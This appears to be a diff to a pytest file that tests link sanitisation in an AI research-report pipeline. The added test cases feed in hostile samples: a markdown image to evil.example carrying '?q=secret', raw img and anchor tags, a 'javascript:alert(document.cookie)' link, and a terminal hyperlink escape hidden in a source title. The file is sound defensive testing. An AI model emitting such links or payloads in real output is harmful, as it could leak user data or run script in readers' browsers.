@@ -3,11 +3,14 @@ links in the final report come only from the sources list."""
 
 from pathlib import Path
 
+import pytest
+
 from checkpoints.threads import thread_id_for
 from core.settings import load_settings
 from deepresearch import runner
 from deepresearch.progress import Progress
-from state.citations import LINK_REMOVED, keep_source_links, sources_section
+from state.citations import sources_section
+from state.links import LINK_REMOVED, keep_source_links
 from state.records import Source
 from tests.conftest import QUESTION, run_context
 from tests.fakes.model_server import ModelServer
@@ -75,3 +78,25 @@ async def test_hostile_titles_paths_and_links_change_nothing(model_server: Model
     # the link came through the evidence and the report, and stops at the final report
     assert any("evil.example" in c.user for c in model_server.calls("writer"))
     assert "evil.example" not in result.report and "the archive" in result.report
+
+
+@pytest.mark.parametrize(("text", "kept", "gone"), [
+    ("![p][p]\n\n[p]: //evil.example/p.png?q=secret", "![p][p]", "evil.example"),  # a reference image
+    ('<img src=//evil.example/i.png?d=x> and <a href="//evil.example">here</a>', "&lt;img", "<img"),
+    ("[x](javascript:alert(document.cookie)) and <mailto:a@evil.example>", "x and", "javascript"),
+    ("See [Foo](https://en.wikipedia.org/wiki/Foo_(bar)) and https://en.wikipedia.org/wiki/Foo_(bar).",
+     "[Foo](https://en.wikipedia.org/wiki/Foo_(bar)) and https://en.wikipedia.org/wiki/Foo_(bar).", "removed"),
+    ("Also http://ok.example/page#section and [1](https://elsewhere.example) and [2](2019)",
+     "http://ok.example/page#section and [1] and [2]", "elsewhere"),
+])
+def test_links_of_every_kind(text: str, kept: str, gone: str) -> None:
+    sources = [source("https://ok.example/page"), source("https://en.wikipedia.org/wiki/Foo_(bar)", 2)]
+    result, _ = keep_source_links(text, sources)
+    assert kept in result and gone not in result
+
+
+def test_titles_never_become_links_or_escapes() -> None:
+    listed = sources_section([source("https://ok.example/a", title="Visit https://evil.example or www.evil.example"
+                                     " \x1b]8;;https://evil.example/\x1b\\click\x1b[31m")], [1])
+    line = listed.splitlines()[-1]
+    assert "https://evil" not in line and "www.evil" not in line and "\x1b" not in line
